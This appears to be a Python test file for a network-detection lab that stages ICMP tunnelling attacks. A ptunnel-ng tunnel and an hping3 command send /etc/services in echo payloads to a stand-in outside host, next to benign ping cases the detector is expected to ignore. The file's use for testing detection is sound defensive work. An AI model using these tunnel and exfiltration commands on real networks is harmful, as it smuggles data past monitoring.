"""Data in echoes, and echoes that are none."""

from __future__ import annotations

import time

from tests.lab import pods
from tests.lab.stage import Case, Stage

CAST = ("web", "client1", "attacker")
FAR = pods.OUTSIDE4
WEB = pods.BY_NAME["web"].ip4


def _ptunnel(stage: Stage) -> None:
    stage.server(pods.OUTSIDE, "http 8080")
    # The far end answers itself, as the tool's manual advises.
    stage.tool(pods.OUTSIDE, "sysctl -qw net.ipv4.icmp_echo_ignore_all=1")
    stage.begin(pods.OUTSIDE, f"ptunnel-ng -r{FAR} -R8080 -o/dev/null")
    child = stage.begin("attacker", f"ptunnel-ng -p{FAR} -l2222 -r{FAR} -R8080 -o/dev/null")
    stage.listening(child, 2222, udp=False)
    with stage.attack("icmp_tunnel", "attacker", pods.OUTSIDE):
        # One connection: the tool takes its time to end a session.
        pages = " ".join(f"-o /dev/null http://127.0.0.1:2222/page/{size}" for size in range(1000, 4000, 200))
        stage.tool("attacker", f"curl -sS -m 60 {pages}")


def _hping(stage: Stage) -> None:
    with stage.attack("icmp_tunnel", "attacker", pods.OUTSIDE):
        stage.attempt("attacker", f"hping3 -1 -q -d 1200 -E /etc/services -i u10000 -c 1500 {FAR}")


def _pings(stage: Stage) -> None:
    for command in (
        f"ping -q -c 20 -i 0.5 {FAR}", f"ping -q -c 40 -i 0.2 -s 1400 {FAR}", f"ping -q -c 20 -i 0.2 -s 1400 {WEB}",
        f"ping -q -c 5 -i 0.2 {pods.OUTSIDE6}",
    ):  # fmt: skip
        stage.tool("client1", command)
    for size in range(1372, 1500, 20):  # the last ones are larger than the path takes
        stage.attempt("client1", f"ping -q -c 2 -i 0.2 -W 1 -M do -s {size} {FAR}")
    stage.attempt("client1", f"ping -q -c 10 -i 0.2 -W 1 {pods.OUTSIDE_DEAD}")
    time.sleep(1)
    stage.silence("icmp_tunnel", note="pings of several sizes, a search for the path's MTU, a host that is away")


CASES = (
    Case("icmp_tunnel", "ptunnel", "TCP through echoes by ptunnel-ng", _ptunnel, pods=CAST),
    Case("icmp_tunnel", "hping_file_slow", "A file in the payload of echoes that the far end mirrors", _hping,
         pods=CAST, notes="512 kB are reached 4.2 s after the start"),
    Case("icmp_tunnel", "pings_of_sizes", "Pings of many sizes", _pings, pods=CAST),
)  # fmt: skip
